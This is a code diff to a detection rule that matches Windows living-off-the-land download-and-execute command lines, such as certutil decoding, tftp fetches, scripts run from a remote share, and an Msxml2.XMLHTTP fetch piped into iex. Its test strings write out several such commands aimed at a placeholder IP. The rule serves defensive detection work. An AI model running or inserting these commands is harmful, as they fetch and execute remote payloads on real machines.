@@ -18,7 +18,7 @@ export const rule: Rule = {
       window: 400,
     },
     {
-      re: /(?<![\w-])certutil(?:\.exe)?\s+(?:[-/]f\s+)?[-/]decode(?:hex)?\s[^\n]*[&;|][^\n]*\.(?:exe|dll|bat|ps1|vbs|js)/i,
+      re: /(?<![\w-])certutil(?:\.exe)?\s+(?:[-/]f\s+)?[-/]decode(?:hex)?\s[^\n]*\.(?:exe|dll|bat|ps1|vbs|js)(?!\w)/i,
       window: 400,
     },
     { re: /(?<![\w-])certreq(?:\.exe)?\s[^\n]*-post\s[^\n]*-config\s+["']?https?:/i, window: 300 },
@@ -38,12 +38,17 @@ export const rule: Rule = {
       re: /(?<![\w-])rundll32(?:\.exe)?\s[^\n]*(?:javascript:|vbscript:|https?:\/\/|url\.dll,\s*(?:openurl|fileprotocolhandler))/i,
       window: 300,
     },
-    { re: /(?<![\w-])(?:cscript|wscript)(?:\.exe)?\s[^\n]*(?:https?:\/\/|\\\\[\w.]+\\)/i, window: 300 },
+    {
+      re: /(?<![\w-])(?:cscript|wscript)(?:\.exe)?\s(?:[^\n]*https?:\/\/|(?:[^\n]*[\s"'])?\\\\[\w.]+\\)/i,
+      window: 300,
+    },
     // A program straight from somebody's share
     {
-      re: /(?<![\w-])(?:copy|xcopy|robocopy|start|rundll32(?:\.exe)?|cmd(?:\.exe)?\s\/c|powershell(?:\.exe)?|net\suse)\s[^\n]*\\\\\d{1,3}(?:\.\d{1,3}){3}\\[^\s"']*\.(?:exe|dll|ps1|bat|hta|sct|js|vbs)/i,
+      re: /(?<![\w-])(?:copy|xcopy|robocopy|start|rundll32|cmd(?:\.exe)?\s\/c|powershell|net\suse|expand|extrac32|esentutl|findstr|replace|scriptrunner)(?:\.exe)?\s[^\n]*\\\\\d{1,3}(?:\.\d{1,3}){3}\\[^\s"']*\.(?:exe|dll|ps1|bat|hta|sct|js|vbs|cab)/i,
       window: 240,
     },
+    { re: /(?<![\w-])tftp(?:\.exe)?\s+-i\s+\S+\s+get\s/i },
+    { re: /msxml2\.(?:server)?xmlhttp[^\n]*(?:iex|invoke-expression)[\s("'$]/i, window: 300 },
     { re: /(?<![\w-])pubprn\.vbs\s[^\n]*script:/i, window: 200 },
     { re: /(?<![\w-])(?:finger|ftp)(?:\.exe)?\s+(?:-s:\S+|[\w@.-]+\s*\|\s*(?:cmd|more|powershell))/i },
     {
@@ -58,6 +63,10 @@ export const rule: Rule = {
       'mshta http://203.0.113.7/a.hta',
       'copy \\\\203.0.113.7\\share\\a.exe C:\\a.exe',
       'mshta vbscript:Execute("x")',
+      'certutil -decode a.b64 a.exe',
+      'extrac32.exe /Y /C \\\\203.0.113.7\\s\\a.cab C:\\a.exe',
+      'tftp -i 203.0.113.7 GET a.exe C:\\a.exe',
+      "$c=New-Object -ComObject Msxml2.XMLHTTP;$c.open('GET','http://203.0.113.7/a',$false);$c.send();iex $c.responseText",
       'regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll',
       'msiexec /q /i http://203.0.113.7/a.msi',
       'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()',
@@ -65,6 +74,9 @@ export const rule: Rule = {
     silent: [
       'certutil -hashfile a.iso SHA256',
       'msiexec /i package.msi /qn',
+      'certutil -decode a.b64 a.bin',
+      '{"command":"cscript //nologo C:\\\\Windows\\\\System32\\\\slmgr.vbs /dli"}',
+      'expand setup.cab -F:* C:\\out',
       'regsvr32 comctl32.ocx',
       'wmic os get version',
       'rundll32 printui.dll,PrintUIEntry /il',
